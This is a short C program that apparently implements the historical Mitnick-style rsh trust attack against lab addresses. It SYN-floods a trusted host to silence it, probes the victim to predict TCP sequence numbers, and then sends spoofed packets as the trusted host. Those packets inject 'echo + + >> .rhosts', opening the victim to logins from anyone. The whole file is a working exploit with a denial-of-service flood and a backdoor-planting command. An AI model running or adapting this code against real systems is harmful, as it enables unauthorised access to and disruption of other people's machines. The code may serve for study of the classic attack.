/* The attack on trust (Morris 1985, Bellovin 1989, Mitnick 1994): the server believes whoever has the address of a host that
   it trusts. That host is flooded until it is deaf, so that it cannot disown what is said in its name; then a connection is
   opened in its name, and the number of the answer, which never comes here, is foretold. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
#include "segment.h"

#define ATTACKER "10.0.0.66"
#define TRUSTED "10.0.0.3"
#define VICTIM "10.0.0.2"
#define PORT 514
#define LOGIN 513
#define AWAY "10.0.0.99" /* an address that nobody has */

int main(void) {
  int out = socket(AF_INET, SOCK_RAW, IPPROTO_RAW), in = socket(AF_INET, SOCK_RAW, IPPROTO_TCP), i;
  unsigned int first, second, step;

  for (i = 0; i < 12; i++) {
    segment(out, AWAY, 600 + i, TRUSTED, LOGIN, 1000 + i, 0, SYN, "");
    usleep(1000);
  }
  first = probe(out, in, ATTACKER, 2000, VICTIM, PORT);
  second = probe(out, in, ATTACKER, 2001, VICTIM, PORT);
  step = second - first;
  printf("%u, then %u: %u on\n", first, second, step);
  segment(out, TRUSTED, LOGIN, VICTIM, PORT, 7000, 0, SYN, "");
  usleep(20000); /* the answer has gone to the host that cannot hear it */
  segment(out, TRUSTED, LOGIN, VICTIM, PORT, 7001, second + step + 1, ACK, "");
  segment(out, TRUSTED, LOGIN, VICTIM, PORT, 7001, second + step + 1, ACK | PSH, "echo + + >> .rhosts\n");
  return 0;
}
